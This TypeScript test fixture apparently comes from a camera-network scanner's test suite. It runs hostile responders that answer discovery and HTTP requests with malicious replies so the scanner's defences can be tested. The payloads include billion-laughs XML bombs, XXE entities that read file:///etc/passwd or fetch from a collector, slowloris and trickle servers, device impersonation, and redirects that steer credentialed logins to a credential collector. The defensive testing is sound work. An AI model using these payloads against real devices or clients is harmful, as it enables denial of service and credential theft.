/**
 * Hostile responders (issue 8, "Hostile networks"): hosts on the camera LAN that answer discovery probes and
 * HTTP requests in every way a broken or malicious device can. They live on their own addresses (<subnet>.200 and
 * up) and are never part of the demo fleet: only tests start them.
 *
 * UDP kinds answer WS-Discovery (3702), SADP (37020) and DHIP (37810) probes with:
 *   garbage          truncated and random datagrams
 *   xml-bomb         XML with DOCTYPE entity bombs and external entities (XXE pointing at the collector)
 *   non-utf8         answers whose bytes are not UTF-8 (Latin-1 names, lone continuation bytes, UTF-16)
 *   jumbo            ~60 KB datagrams
 *   flood            500 ProbeMatches per probe (and as many SADP/DHIP answers), half of them duplicate UUIDs
 *   impersonator     another device's MAC, serial and endpoint UUID, from this host's address
 *   points-elsewhere XAddrs, SADP IPv4Address/HttpPort and DHIP IPv4Address pointing at another host (a collector)
 *
 * HTTP kinds answer WS-Discovery with a well-formed ProbeMatch whose XAddrs name their own server, then misbehave:
 *   huge-body        a 200 with a body of tens of MB, streamed as fast as the client reads
 *   trickle          a 200 whose body arrives one byte at a time, forever
 *   slowloris        a status line, then header bytes one at a time, never ending the head
 *   reset            half a response, then a TCP reset
 *   redirect         anonymous requests get a Digest challenge (GET / a 302); credentialed ones a 302 to the collector
 *                    (it and absurd-digest answer an anonymous GetSystemDateAndTime, so they pass the agreement rule)
 *   absurd-digest    401 challenges with a 10 KB nonce, 1000 parameters, and an unknown algorithm
 *
 * Every responder counts what it received, so tests can prove what the scanner did (e.g. that the redirect host
 * saw one credentialed request and the collector none).
 */
import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';
import { randomBytes, randomUUID } from 'node:crypto';
import { openUdpSocket, type UdpEndpoint, type UdpMessage, type UdpSocketFactory } from '../../src/transport/udp.js';
import { buildProbeMatches } from '../../src/protocols/ws-discovery/index.js';
import { buildSadpProbeMatch, parseSadpMessage } from '../../src/protocols/sadp/index.js';
import { encodeDhipFrame, parseDhipMessage } from '../../src/protocols/dhip/index.js';
import { buildDeviceInfoBody } from '../../src/simulator/responders/dhip-responder.js';
import { loadCapture } from '../../src/simulator/templates.js';

export type HostileKind =
  | 'garbage'
  | 'xml-bomb'
  | 'non-utf8'
  | 'jumbo'
  | 'flood'
  | 'impersonator'
  | 'points-elsewhere'
  | 'huge-body'
  | 'trickle'
  | 'slowloris'
  | 'reset'
  | 'redirect'
  | 'absurd-digest';

export const HOSTILE_UDP_KINDS: readonly HostileKind[] = ['garbage', 'xml-bomb', 'non-utf8', 'jumbo', 'flood', 'impersonator', 'points-elsewhere'];
export const HOSTILE_HTTP_KINDS: readonly HostileKind[] = ['huge-body', 'trickle', 'slowloris', 'reset', 'redirect', 'absurd-digest'];
export const HOSTILE_KINDS: readonly HostileKind[] = [...HOSTILE_UDP_KINDS, ...HOSTILE_HTTP_KINDS];

const WS_DISCOVERY_PORT = 3702;
const SADP_PORT = 37020;
const DHIP_PORT = 37810;

export interface HostileOptions {
  /** First three octets; responders get <subnet>.<firstHost>, .<firstHost + 1>, … in the order of `kinds`. */
  subnet: string;
  kinds?: readonly HostileKind[];
  firstHost?: number;
  /** Where payloads point (XAddrs, SADP/DHIP addresses, redirects, XXE): a credential collector. */
  collector?: { address: string; port: number };
  /** The identity an `impersonator` claims: a real device's MAC, serial and (optionally) endpoint UUID. */
  impersonate?: { mac: string; serial: string; endpointUuid?: string; model?: string };
  /** ProbeMatches per probe for `flood` (default 500). */
  floodCount?: number;
  /** Body size for `huge-body` (default 40 MiB). */
  hugeBodyBytes?: number;
  udpFactory?: UdpSocketFactory;
}

export interface HostileCounters {
  /** WS-Discovery, SADP and DHIP probes heard. */
  probes: number;
  datagramsSent: number;
  httpRequests: number;
  /** HTTP requests carrying an Authorization header or a WS-Security UsernameToken. */
  credentialedRequests: number;
  /** Body bytes the HTTP side managed to write (a client that stops reading keeps this small). */
  bodyBytesWritten: number;
}

export interface HostileResponder {
  kind: HostileKind;
  address: string;
  /** The HTTP (or raw TCP) port of an HTTP kind; null for UDP kinds. */
  httpPort: number | null;
  /** The identity this host advertises (the impersonated one for `impersonator`). */
  mac: string;
  serial: string;
  endpointUuid: string;
  counters: HostileCounters;
}

export interface HostileResponders {
  responders: HostileResponder[];
  addresses: string[];
  stop(): Promise<void>;
}

interface Running {
  responder: HostileResponder;
  close(): Promise<void>;
}

export async function startHostileResponders(options: HostileOptions): Promise<HostileResponders> {
  const kinds = options.kinds ?? HOSTILE_KINDS;
  const first = options.firstHost ?? 200;
  const running: Running[] = [];
  const stop = async (): Promise<void> => {
    await Promise.all(running.splice(0).map((r) => r.close()));
  };
  try {
    for (const [index, kind] of kinds.entries()) {
      const host = first + index;
      if (host > 254) throw new RangeError(`too many hostile responders for ${options.subnet}.${first}`);
      running.push(await startOne(kind, `${options.subnet}.${host}`, host, options));
    }
  } catch (error) {
    await stop();
    throw error;
  }
  const responders = running.map((r) => r.responder);
  return { responders, addresses: responders.map((r) => r.address), stop };
}

async function startOne(kind: HostileKind, address: string, host: number, options: HostileOptions): Promise<Running> {
  const own = { mac: `02:66:6b:00:00:${host.toString(16).padStart(2, '0')}`, serial: `HOSTILE-${kind}-${host}`, endpointUuid: `urn:uuid:${randomUUID()}` };
  const claimed =
    kind === 'impersonator' && options.impersonate
      ? { mac: options.impersonate.mac, serial: options.impersonate.serial, endpointUuid: options.impersonate.endpointUuid ?? own.endpointUuid }
      : own;
  const responder: HostileResponder = {
    kind,
    address,
    httpPort: null,
    ...claimed,
    counters: { probes: 0, datagramsSent: 0, httpRequests: 0, credentialedRequests: 0, bodyBytesWritten: 0 },
  };
  const closers: Array<() => Promise<void>> = [];
  const close = async (): Promise<void> => {
    await Promise.all(closers.splice(0).map((c) => c().catch(() => undefined)));
  };
  try {
    if (HOSTILE_HTTP_KINDS.includes(kind)) {
      const server = await startHttpSide(kind, address, responder, options);
      responder.httpPort = server.port;
      closers.push(server.close);
    }
    const context: UdpContext = { kind, responder, options, model: kind === 'impersonator' ? (options.impersonate?.model ?? 'DS-2CD2386G2-IU') : `HOSTILE-${kind}` };
    const factory = options.udpFactory ?? openUdpSocket;
    for (const [port, answer] of [
      [WS_DISCOVERY_PORT, answerWsDiscovery],
      [SADP_PORT, answerSadp],
      [DHIP_PORT, answerDhip],
    ] as const) {
      // HTTP kinds only need to be found: they answer WS-Discovery and nothing else.
      if (HOSTILE_HTTP_KINDS.includes(kind) && port !== WS_DISCOVERY_PORT) continue;
      const socket = await factory({ type: 'udp4', bindAddress: address, port });
      closers.push(() => socket.close());
      socket.onError(() => undefined);
      socket.onMessage((message) => {
        try {
          const replies = answer(context, message);
          if (replies.length === 0) return;
          responder.counters.probes += 1;
          sendAll(socket, replies, message, responder.counters);
        } catch {
          // A hostile responder that throws is still a hostile responder.
        }
      });
    }
  } catch (error) {
    await close();
    throw error;
  }
  return { responder, close };
}

function sendAll(socket: UdpEndpoint, replies: Buffer[], to: UdpMessage, counters: HostileCounters): void {
  for (const reply of replies) {
    socket.send(reply, to.port, to.address).then(
      () => void (counters.datagramsSent += 1),
      () => undefined,
    );
  }
}

// ---- UDP payloads ---------------------------------------------------------------------------------------------

interface UdpContext {
  kind: HostileKind;
  responder: HostileResponder;
  options: HostileOptions;
  model: string;
}

const WS_PROBE = /<(?:[\w-]+:)?Probe[\s>]/;
const WS_MESSAGE_ID = /<(?:[\w-]+:)?MessageID[^>]*>([^<]{1,256})</;

function collectorUrl(context: UdpContext, path = '/onvif/device_service'): string {
  const collector = context.options.collector ?? { address: '127.0.0.1', port: 9 };
  return `http://${collector.address}:${collector.port}${path}`;
}

function ownUrl(context: UdpContext): string {
  return `http://${context.responder.address}:${context.responder.httpPort ?? 80}/onvif/device_service`;
}

function probeMatch(context: UdpContext, relatesTo: string, fields: { endpointUuid?: string; scopes?: string[]; xaddrs?: string[] } = {}): string {
  const r = context.responder;
  return buildProbeMatches({
    relatesTo: relatesTo || 'uuid:00000000-0000-0000-0000-000000000000',
    messageId: randomUUID(),
    endpointUuid: fields.endpointUuid ?? r.endpointUuid,
    types: ['dn:NetworkVideoTransmitter'],
    scopes: fields.scopes ?? [`onvif://www.onvif.org/name/HOSTILE`, `onvif://www.onvif.org/hardware/${encodeURIComponent(context.model)}`, `onvif://www.onvif.org/MAC/${r.mac}`],
    xaddrs: fields.xaddrs ?? [r.httpPort !== null ? ownUrl(context) : collectorUrl(context)],
    metadataVersion: 1,
  });
}

function answerWsDiscovery(context: UdpContext, message: UdpMessage): Buffer[] {
  const text = message.data.toString('utf8');
  if (!WS_PROBE.test(text) || /ProbeMatch/.test(text)) return [];
  const relatesTo = WS_MESSAGE_ID.exec(text)?.[1]?.trim() ?? '';
  const valid = probeMatch(context, relatesTo);
  switch (context.kind) {
    case 'garbage':
      return [
        randomBytes(300),
        Buffer.from(valid.slice(0, Math.floor(valid.length / 2)), 'utf8'),
        Buffer.from(valid.slice(0, valid.indexOf('<d:Scopes>') + 14), 'utf8'),
        Buffer.from('<', 'utf8'),
        Buffer.alloc(0),
        Buffer.from('{"method":"not-soap"}', 'utf8'),
        Buffer.from(valid.replace('</s:Envelope>', '</s:Envelop>'), 'utf8'),
      ];
    case 'xml-bomb': {
      const body = valid.replace(/^<\?xml[^>]*\?>/, '');
      const laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') + ']>';
      const xxe = `<!DOCTYPE d [<!ENTITY xxe SYSTEM "${collectorUrl(context, '/xxe')}"><!ENTITY file SYSTEM "file:///etc/passwd">]>`;
      return [
        Buffer.from(`<?xml version="1.0"?>${laughs}${body.replace('onvif://www.onvif.org/name/HOSTILE', 'onvif://www.onvif.org/name/&lol9;')}`, 'utf8'),
        Buffer.from(`<?xml version="1.0"?>${xxe}${body.replace(/<d:XAddrs>[^<]*<\/d:XAddrs>/, '<d:XAddrs>&xxe; &file;</d:XAddrs>')}`, 'utf8'),
        Buffer.from(`<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "${collectorUrl(context, '/dtd')}">%p;]>${body}`, 'utf8'),
      ];
    }
    case 'non-utf8': {
      const latin1 = Buffer.from(valid.replace('onvif://www.onvif.org/name/HOSTILE', 'onvif://www.onvif.org/name/Cam\u00e9ra\u00ff'), 'latin1');
      const spliced = Buffer.concat([Buffer.from(valid.slice(0, valid.indexOf('</a:Address>')), 'utf8'), Buffer.from([0xff, 0xfe, 0x80, 0xc0, 0xed, 0xa0, 0x80]), Buffer.from(valid.slice(valid.indexOf('</a:Address>')), 'utf8')]);
      const utf16 = Buffer.from(`\ufeff${valid.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, 'utf16le');
      return [latin1, spliced, utf16];
    }
    case 'jumbo': {
      const scopes = Array.from({ length: 1400 }, (_, i) => `onvif://www.onvif.org/x/${'j'.repeat(16)}${i}`);
      const xml = probeMatch(context, relatesTo, { scopes: [`onvif://www.onvif.org/MAC/${context.responder.mac}`, ...scopes] });
      // One cut at 60 KB (no longer well-formed), one well-formed answer padded to 61 KB.
      return [Buffer.from(xml.slice(0, 60_000), 'utf8'), Buffer.from(padTo(valid, 61_000), 'utf8')];
    }
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      const half = Math.max(1, Math.floor(count / 2));
      const uuids = Array.from({ length: half }, () => `urn:uuid:${randomUUID()}`);
      // Each answer names another identity; the second half repeats the first half's UUIDs (duplicates).
      return Array.from({ length: count }, (_, i) => {
        const mac = `02:66:6c:${((i >> 16) & 0xff).toString(16).padStart(2, '0')}:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`;
        return Buffer.from(probeMatch(context, relatesTo, { endpointUuid: uuids[i % half]!, scopes: [`onvif://www.onvif.org/MAC/${mac}`, 'onvif://www.onvif.org/name/FLOOD'] }), 'utf8');
      });
    }
    case 'impersonator':
    case 'points-elsewhere':
      return [Buffer.from(probeMatch(context, relatesTo, { xaddrs: [collectorUrl(context)] }), 'utf8')];
    default:
      // HTTP kinds: a well-formed answer that leads the scanner to their server.
      return [Buffer.from(valid, 'utf8')];
  }
}

/** Pad an XML document with a comment to `size` bytes (a comment is legal anywhere after the root element). */
function padTo(xml: string, size: number): string {
  const room = size - Buffer.byteLength(xml) - 7;
  return room > 0 ? `${xml}<!--${'p'.repeat(room)}-->` : xml;
}

function sadpMatch(context: UdpContext, uuid: string, overrides: { mac?: string; serial?: string; ipv4?: string; httpPort?: number } = {}): string {
  const r = context.responder;
  return buildSadpProbeMatch({
    uuid,
    deviceType: '141945',
    model: context.model,
    serial: overrides.serial ?? r.serial,
    mac: overrides.mac ?? r.mac,
    ipv4: overrides.ipv4 ?? r.address,
    ipv4Mask: '255.255.255.0',
    httpPort: overrides.httpPort ?? 80,
    commandPort: 8000,
    firmware: 'V5.7.3build 220112',
    activated: true,
    falseSpelling: 'flase',
  });
}

function answerSadp(context: UdpContext, message: UdpMessage): Buffer[] {
  let uuid: string;
  try {
    const decoded = parseSadpMessage(message.data);
    if (decoded.kind !== 'inquiry') return [];
    uuid = decoded.uuid ?? '';
  } catch {
    return [];
  }
  const valid = sadpMatch(context, uuid);
  switch (context.kind) {
    case 'garbage':
      // Cut before the MAC and serial: nothing in it identifies a device.
      return [Buffer.from(valid.slice(0, valid.indexOf('<DeviceSN>')), 'utf8'), randomBytes(200), Buffer.from('<ProbeMatch><MAC>', 'utf8'), Buffer.from(valid.replace('<ProbeMatch>', '<ProbeMatch><<'), 'utf8')];
    case 'xml-bomb':
      return [Buffer.from(valid.replace('<ProbeMatch>', '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><ProbeMatch>').replace(/<DeviceDescription>[^<]*/, '<DeviceDescription>&b;'), 'utf8')];
    case 'non-utf8':
      return [Buffer.from(valid.replace(/<DeviceDescription>[^<]*/, '<DeviceDescription>Cam\u00e9ra \u00ff\u00fe'), 'latin1')];
    case 'jumbo':
      return [Buffer.from(padTo(valid, 60_000), 'utf8')];
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      return Array.from({ length: count }, (_, i) => Buffer.from(sadpMatch(context, uuid, { mac: `02:66:6d:00:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`, serial: `FLOOD-SADP-${i}` }), 'utf8'));
    }
    case 'impersonator':
      return [Buffer.from(valid, 'utf8')];
    case 'points-elsewhere': {
      const collector = context.options.collector;
      return [Buffer.from(sadpMatch(context, uuid, { ipv4: collector?.address ?? '127.0.0.1', httpPort: collector?.port ?? 9 }), 'utf8')];
    }
    default:
      return [];
  }
}

function dhipInfo(context: UdpContext, overrides: { mac?: string; serial?: string; ipv4?: string; httpPort?: number } = {}): string {
  const r = context.responder;
  return buildDeviceInfoBody(
    { address: overrides.ipv4 ?? r.address, httpPort: overrides.httpPort ?? 80, vendor: 'Dahua', model: context.model, firmware: '2.800.0000000.1.R', serial: overrides.serial ?? r.serial, mac: overrides.mac ?? r.mac, activated: true },
    overrides.ipv4 ?? r.address,
  );
}

function answerDhip(context: UdpContext, message: UdpMessage): Buffer[] {
  try {
    if (parseDhipMessage(message.data).kind !== 'search') return [];
  } catch {
    return [];
  }
  const body = dhipInfo(context);
  switch (context.kind) {
    case 'garbage': {
      const lying = encodeDhipFrame(body);
      lying.writeUInt32LE(60_000, 16);
      lying.writeUInt32LE(60_000, 24);
      const badMagic = encodeDhipFrame(body);
      badMagic.write('XHIP', 4, 'latin1');
      return [lying, badMagic, encodeDhipFrame('{"method":"client.notifyDevInfo","params":'), encodeDhipFrame('null'), randomBytes(31), Buffer.concat([encodeDhipFrame(body), Buffer.from('trailing')])];
    }
    case 'xml-bomb':
      // JSON has no entities; its bomb is nesting.
      return [encodeDhipFrame(`{"method":"client.notifyDevInfo","params":{"deviceInfo":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`)];
    case 'non-utf8': {
      const [head, tail] = body.split(context.model);
      return [encodeDhipFrame(Buffer.concat([Buffer.from(head ?? '', 'utf8'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(tail ?? '', 'utf8')]))];
    }
    case 'jumbo':
      return [encodeDhipFrame(body.replace('"DeviceType"', `"Padding":"${'x'.repeat(60_000)}","DeviceType"`))];
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      return Array.from({ length: count }, (_, i) => encodeDhipFrame(dhipInfo(context, { mac: `02:66:6e:00:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`, serial: `FLOOD-DHIP-${i}` })));
    }
    case 'impersonator':
      return [encodeDhipFrame(body)];
    case 'points-elsewhere': {
      const collector = context.options.collector;
      return [encodeDhipFrame(dhipInfo(context, { ipv4: collector?.address ?? '127.0.0.1', httpPort: collector?.port ?? 9 }))];
    }
    default:
      return [];
  }
}

// ---- HTTP side ------------------------------------------------------------------------------------------------

interface HttpSide {
  port: number;
  close(): Promise<void>;
}

function isCredentialed(req: IncomingMessage, body: string): boolean {
  return req.headers['authorization'] !== undefined || /UsernameToken/.test(body);
}

async function readBody(req: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of req) {
    body += (chunk as Buffer).toString('utf8');
    if (body.length > 256 * 1024) break;
  }
  return body;
}

async function startHttpSide(kind: HostileKind, address: string, responder: HostileResponder, options: HostileOptions): Promise<HttpSide> {
  if (kind === 'slowloris' || kind === 'reset') return startTcpSide(kind, address, responder);
  const timers = new Set<NodeJS.Timeout>();
  let absurdCount = 0;
  const server: Server = createHttpServer((req, res) => {
    void handle(req, res).catch(() => res.destroy());
  });
  const handle = async (req: IncomingMessage, res: ServerResponse): Promise<void> => {
    const body = await readBody(req);
    responder.counters.httpRequests += 1;
    const credentialed = isCredentialed(req, body);
    if (credentialed) responder.counters.credentialedRequests += 1;
    // The login-path kinds answer the anonymous ONVIF clock request like a device, so the agreement rule (its own
    // ONVIF answer) lets the planner knock and the test reaches the login-time defence it is about.
    if ((kind === 'redirect' || kind === 'absurd-digest') && !credentialed && req.method === 'POST' && /GetSystemDateAndTime/.test(body)) {
      res.writeHead(200, { 'Content-Type': 'application/soap+xml; charset=utf-8' }).end(loadCapture('onvif-device/pelco-D6230L-GetSystemDateAndTimeResponse-onvif-nvt.xml'));
      return;
    }
    switch (kind) {
      case 'huge-body':
        streamHugeBody(res, options.hugeBodyBytes ?? 40 * 1024 * 1024, responder.counters);
        return;
      case 'trickle': {
        res.writeHead(200, { 'Content-Type': 'application/soap+xml; charset=utf-8' });
        res.write('<');
        const timer = setInterval(() => {
          if (res.destroyed || res.writableEnded) {
            clearInterval(timer);
            timers.delete(timer);
            return;
          }
          res.write('a');
          responder.counters.bodyBytesWritten += 1;
        }, 50);
        timers.add(timer);
        res.on('close', () => {
          clearInterval(timer);
          timers.delete(timer);
        });
        return;
      }
      case 'redirect': {
        const collector = options.collector ?? { address: '127.0.0.1', port: 9 };
        const location = `http://${collector.address}:${collector.port}${req.url ?? '/'}`;
        if (credentialed || req.method === 'GET') {
          res.writeHead(302, { Location: location, 'Content-Length': '0' }).end();
          return;
        }
        res.writeHead(401, { 'WWW-Authenticate': `Digest realm="hostile-redirect", qop="auth", nonce="${randomBytes(12).toString('hex')}", algorithm=MD5`, 'Content-Length': '0' }).end();
        return;
      }
      case 'absurd-digest': {
        // GET / gets all three at once: a head over undici's 16 KiB limit. Every other request gets one absurd
        // challenge in turn, next to a Digest challenge with an unknown algorithm (so the device looks like a
        // Digest device to the anonymous probes, and only the choice at login time stands between it and a knock).
        const unknown = `Digest realm="absurd", qop="auth", nonce="${randomBytes(8).toString('hex')}", algorithm=SHA3-FANCY-512`;
        const absurd = [
          `Digest realm="absurd", qop="auth", nonce="${'n'.repeat(10 * 1024)}", algorithm=MD5`,
          `Digest ${Array.from({ length: 1000 }, (_, i) => `p${i}=${i}`).join(', ')}, realm="absurd", nonce="late", qop="auth"`,
        ];
        absurdCount += 1;
        const challenges = req.method === 'GET' && req.url === '/' ? [...absurd, unknown] : [absurd[absurdCount % absurd.length]!, unknown];
        res.writeHead(401, [...challenges.map((c): [string, string] => ['WWW-Authenticate', c]), ['Content-Length', '0']]);
        res.end();
        return;
      }
      default:
        res.writeHead(500).end();
    }
  };
  await listen(server, address);
  return {
    port: portOf(server),
    close: async () => {
      for (const timer of timers) clearInterval(timer);
      timers.clear();
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** A 200 whose body is written as fast as the client reads it (backpressure keeps our memory flat). */
function streamHugeBody(res: ServerResponse, total: number, counters: HostileCounters): void {
  res.writeHead(200, { 'Content-Type': 'application/soap+xml; charset=utf-8', 'Content-Length': String(total) });
  const chunk = Buffer.alloc(64 * 1024, 0x61);
  let written = 0;
  const pump = (): void => {
    while (written < total && !res.destroyed) {
      const size = Math.min(chunk.byteLength, total - written);
      written += size;
      counters.bodyBytesWritten += size;
      if (!res.write(size === chunk.byteLength ? chunk : chunk.subarray(0, size))) {
        res.once('drain', pump);
        return;
      }
    }
    if (!res.destroyed) res.end();
  };
  pump();
}

/** Raw TCP for what an HTTP server library will not do: never finish a head, or reset mid-response. */
async function startTcpSide(kind: 'slowloris' | 'reset', address: string, responder: HostileResponder): Promise<HttpSide> {
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  const server: TcpServer = createTcpServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
    let request = '';
    let answered = false;
    socket.on('data', (data: Buffer) => {
      request += data.toString('latin1');
      if (answered || !/\r\n\r\n/.test(request)) return;
      answered = true;
      responder.counters.httpRequests += 1;
      if (/^authorization:/im.test(request) || /UsernameToken/.test(request)) responder.counters.credentialedRequests += 1;
      if (kind === 'reset') {
        socket.write('HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\nContent-Length: 4096\r\n\r\n<?xml version="1.0"?><s:Envelope');
        const timer = setTimeout(() => socket.resetAndDestroy(), 20);
        timers.add(timer);
        return;
      }
      socket.write('HTTP/1.1 200 OK\r\n');
      const header = 'X-Slow: ' + 'z'.repeat(1_000_000);
      let sent = 0;
      const timer = setInterval(() => {
        if (socket.destroyed || sent >= header.length) {
          clearInterval(timer);
          timers.delete(timer);
          return;
        }
        socket.write(header[sent++]!);
      }, 50);
      timers.add(timer);
    });
  });
  await listen(server, address);
  return {
    port: portOf(server),
    close: async () => {
      for (const timer of timers) clearTimeout(timer);
      timers.clear();
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

async function listen(server: Server | TcpServer, address: string): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, address, () => {
      server.off('error', reject);
      resolve();
    });
  });
}

function portOf(server: Server | TcpServer): number {
  const bound = server.address();
  return bound && typeof bound === 'object' ? bound.port : 0;
}
